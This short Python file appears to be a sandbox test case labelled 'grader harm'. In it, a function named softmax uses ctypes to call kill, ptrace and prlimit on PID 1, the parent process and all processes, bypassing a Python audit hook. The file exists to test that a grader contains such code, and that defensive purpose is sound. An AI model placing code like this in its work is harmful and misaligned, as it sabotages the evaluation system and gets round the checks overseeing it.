# class: grader harm (kill/prlimit/ptrace syscalls on other pids, around the audit hook)
# expect: wrong_answer runtime_error
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Rlimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]


def softmax(x, axis=-1):
    zero = Rlimit(0, 0)
    for pid in (1, os.getppid(), -1):
        libc.kill(pid, 9)
        libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        libc.prlimit(pid, 7, ctypes.byref(zero), None)  # RLIMIT_NOFILE of someone else -> 0
    return x
